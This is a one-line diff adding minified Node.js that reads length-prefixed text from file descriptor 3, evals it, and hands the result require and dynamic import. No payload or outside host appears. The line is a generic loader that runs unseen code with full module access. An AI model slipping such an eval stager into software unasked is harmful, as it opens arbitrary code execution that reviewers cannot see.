@@ -1,0 +1,1 @@
+{const f=require("fs"),r=n=>{const b=Buffer.alloc(n);for(let g=0;g<n;){const k=f.readSync(3,b,g,n-g,null);if(!k)process.exit(0);g+=k}return b};(0,eval)(r(r(4).readUInt32BE(0)).toString())(require,(n,o)=>import(n,o))}
